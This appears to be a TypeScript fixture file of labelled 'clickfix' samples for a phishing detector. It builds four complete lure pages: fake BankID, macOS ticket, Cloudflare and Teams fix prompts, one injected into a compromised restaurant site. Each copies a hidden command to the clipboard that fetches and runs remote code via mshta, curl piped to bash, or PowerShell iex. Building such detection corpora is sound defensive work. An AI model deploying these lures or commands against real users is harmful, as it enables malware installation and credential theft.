import { type Entry } from '../entry.js';
import { doc, b64, chunks, logo } from '../parts/yx-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const cmd = 'mshta https://bankid-enhetskontroll.se-verify.com/v/48812.hta # BankID: Verifiering av enhet – referens 48812';
  return {
    id: 'yx-clickfix-bankid-enhetskontroll',
    label: 'clickfix',
    kind: 'clickfix-fake-bankid-check',
    url: 'https://bankid-enhetskontroll.se-verify.com/kontroll/',
    body: doc({
      lang: 'sv',
      title: 'BankID – Säkerhetskontroll av enhet',
      css: `body{margin:0;font-family:Arial;background:#eef2f4;color:#193e4f}.w{max-width:520px;margin:60px auto;background:#fff;padding:32px;border-radius:8px}.pb{height:8px;background:#dde4e8;border-radius:4px;overflow:hidden}.pb i{display:block;height:100%;width:68%;background:#193e4f}.k{display:flex;gap:10px;margin:10px 0;align-items:center}.k span{display:inline-block;min-width:28px;height:28px;border-radius:50%;background:#193e4f;color:#fff;text-align:center;line-height:28px}kbd{border:1px solid #999;border-radius:3px;padding:2px 6px;background:#f6f6f6}button{background:#193e4f;color:#fff;border:0;padding:12px 24px;font-size:16px;border-radius:4px}`,
      body: `<div class="w">${logo.bankidSe(44)}<h2>Säkerhetskontroll av din dator</h2><p>Från och med 1 november kräver BankID att datorer som används för inloggning i internetbanken verifieras. Kontrollen tar under en minut.</p><div class="pb"><i></i></div><p style="font-size:13px">Steg 2 av 3 – Verifiera enheten</p>
<button id="v">Starta verifiering</button>
<div id="s" hidden><div class="k"><span>1</span>Håll ned <kbd>Windows</kbd> och tryck <kbd>R</kbd></div><div class="k"><span>2</span>Klistra in verifieringskoden med <kbd>Ctrl</kbd> + <kbd>V</kbd></div><div class="k"><span>3</span>Tryck <kbd>Enter</kbd> och vänta på bekräftelse</div><p style="font-size:12px;color:#666">Verifieringskoden har kopierats automatiskt.</p></div></div>
<script>
document.getElementById('v').onclick=function(){navigator.clipboard.writeText(atob('${b64(cmd)}'));document.getElementById('s').hidden=false;this.textContent='Väntar på verifiering…';this.disabled=true;};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const sh = `curl -fsSL https://nordic-blockchain-summit.events-reg.com/mac/verify.sh | bash`;
  const line = `echo "${b64(sh)}" | base64 -d | bash`;
  return {
    id: 'yx-clickfix-macos-terminal-event-en',
    label: 'clickfix',
    kind: 'clickfix-macos-terminal',
    url: 'https://nordic-blockchain-summit.events-reg.com/tickets/verify',
    body: doc({
      lang: 'en',
      title: 'Nordic Blockchain Summit 2025 – Ticket verification',
      css: `body{margin:0;font-family:-apple-system,Helvetica,Arial;background:#0f1020;color:#f5f5ff}.w{max-width:560px;margin:10vh auto;background:#1b1c33;padding:30px;border-radius:14px}.t{display:flex;gap:10px;margin:8px 0}.t b{background:#6c5ce7;border-radius:50%;width:26px;height:26px;display:inline-flex;align-items:center;justify-content:center;flex:none}kbd{background:#2d2f55;border-radius:4px;padding:1px 6px}button{background:#6c5ce7;color:#fff;border:0;padding:12px 22px;border-radius:8px;font-size:15px}`,
      body: `<div class="w"><h2>Verify you are human</h2><p>To prevent ticket scalping bots, macOS visitors must complete a one-time verification before claiming the free Speaker Pass for Nordic Blockchain Summit, Oslo 14–15 November.</p>
<button id="b">Copy verification code</button>
<div id="s" style="display:none"><div class="t"><b>1</b>Press <kbd>⌘ Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press <kbd>Return</kbd></div><div class="t"><b>2</b>Paste the code with <kbd>⌘</kbd> + <kbd>V</kbd> and press <kbd>Return</kbd></div><div class="t"><b>3</b>Enter your Mac password if asked, to confirm the verification</div></div></div>
<script>var v=${JSON.stringify(line)};document.getElementById('b').onclick=function(){navigator.clipboard.writeText(v);document.getElementById('s').style.display='block';this.textContent='Code copied'};</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const site = 'www.restaurant-havnekanten.dk';
  const cdn = 'js.cdn-metrics-dk.com';
  const cmd = `powershell -NoP -W Hidden -C "$r=iwr -UseB 'https://${cdn}/t/k.ps1';iex $r.Content" # Cloudflare-verifikation ID 55173`;
  const inj = `(function(){if(sessionStorage.getItem('cfv'))return;
var p=[${chunks(b64(cmd), 40)}].join(''),c=atob(p);
var o=document.createElement('div');o.id='cf-ov';o.style.cssText='position:fixed;inset:0;background:#fff;z-index:999999;font-family:Arial,sans-serif';
o.innerHTML='<div style="max-width:600px;margin:14vh auto;padding:0 20px"><h1 style="font-weight:400">${site}</h1><p>Bekræft at du er et menneske ved at gennemføre handlingen nedenfor.</p><div style="border:1px solid #ddd;padding:14px;width:290px;display:flex;justify-content:space-between"><label><input type="checkbox" id="cf-c"> Bekræft at du er et menneske</label><small>CLOUDFLARE</small></div><div id="cf-s" style="display:none;margin-top:14px;border:1px solid #ddd;padding:14px"><b>For at fortsætte:</b><br>1. Tryk på Windows-tasten + R<br>2. Tryk på Ctrl + V<br>3. Tryk på Enter</div></div>';
document.body.appendChild(o);
document.getElementById('cf-c').onclick=function(){navigator.clipboard.writeText(c);document.getElementById('cf-s').style.display='block';sessionStorage.setItem('cfv','1')};})();`;
  return {
    id: 'yx-clickfix-compromised-restaurant-injected-dk',
    label: 'clickfix',
    kind: 'clickfix-injected-script',
    url: `https://${site}/menu`,
    body: doc({
      lang: 'da',
      title: 'Menu – Restaurant Havnekanten, Svendborg',
      css: `body{margin:0;font-family:Georgia,serif;background:#fbf8f2;color:#2a2a2a}header{padding:20px 30px;border-bottom:1px solid #ddd}main{max-width:720px;margin:20px auto;padding:0 16px}.d{display:flex;justify-content:space-between;border-bottom:1px dotted #bbb;padding:6px 0}`,
      body: `<header><b style="font-size:24px">Restaurant Havnekanten</b><br>Frederiksø 4 · 5700 Svendborg · Bordbestilling 62 21 44 10</header>
<main><h2>Frokost</h2><div class="d"><span>Stjerneskud med rejer og kaviar</span><b>165,-</b></div><div class="d"><span>Pariserbøf med rå æggeblomme</span><b>185,-</b></div><div class="d"><span>3 slags sild med snaps</span><b>145,-</b></div>
<h2>Aften</h2><div class="d"><span>Helstegt rødspætte med persillesovs</span><b>245,-</b></div><div class="d"><span>Dansk oksemørbrad, bearnaise</span><b>295,-</b></div></main>
<script type="text/javascript" src="https://${cdn}/c.js?id=hk221"></script>`,
    }),
    routes: { [`${cdn}/c.js`]: jsRoute(inj) },
  } satisfies Entry;
})(),
(() => {
  const cmd = `powershell -nop -w hidden -c "$c=irm https://teams-live.nordic-meet.com/fix/audio.ps1; iex $c" ; # Teams-ljuddrivrutin – felsökare KB5034441`;
  return {
    id: 'yx-clickfix-teams-mic-fix-sv-en',
    label: 'clickfix',
    kind: 'clickfix-fake-meeting-fix',
    url: 'https://teams-live.nordic-meet.com/meet/ops-veckomote-q4',
    body: doc({
      lang: 'sv',
      title: 'Microsoft Teams – Veckomöte Drift Q4',
      css: `body{margin:0;background:#1f1f1f;color:#fff;font-family:"Segoe UI",Arial}.top{background:#292929;padding:10px 20px}.grid{display:grid;grid-template-columns:1fr 1fr;gap:10px;padding:20px;max-width:900px;margin:0 auto}.tile{background:#3b3b3b;height:200px;border-radius:6px;display:flex;align-items:flex-end;padding:10px}.m{position:fixed;left:50%;top:20%;transform:translateX(-50%);background:#fff;color:#222;width:460px;border-radius:6px;padding:22px}button{background:#5b5fc7;color:#fff;border:0;padding:10px 18px;border-radius:4px}kbd{border:1px solid #aaa;padding:1px 5px;border-radius:3px}`,
      body: `<div class="top">Microsoft Teams · Veckomöte Drift Q4 · 14 deltagare</div><div class="grid"><div class="tile">Anders K. (organisatör)</div><div class="tile">Maria S.</div><div class="tile">Erik L.</div><div class="tile">Du (kamera av)</div></div>
<div class="m"><h3 style="margin-top:0">Din mikrofon och kamera kunde inte startas</h3><p>Teams hittade ett problem med ljuddrivrutinen (fel 0xC00D36B4). Other participants can't hear you.</p><p><b>Åtgärda problemet:</b></p><ol><li>Klicka på <b>Åtgärda</b> (felsökningskoden kopieras)</li><li>Tryck <kbd>Win</kbd> + <kbd>R</kbd>, klistra in med <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Tryck <kbd>Enter</kbd> och anslut till mötet igen</li></ol><button id="f">Åtgärda</button> <button style="background:#666">Fortsätt utan ljud</button></div>
<script>document.getElementById('f').addEventListener('click',function(){var x=${JSON.stringify(cmd)};navigator.clipboard.writeText(x);this.textContent='Kopierat – följ stegen';});</script>`,
    }),
  } satisfies Entry;
})(),
];
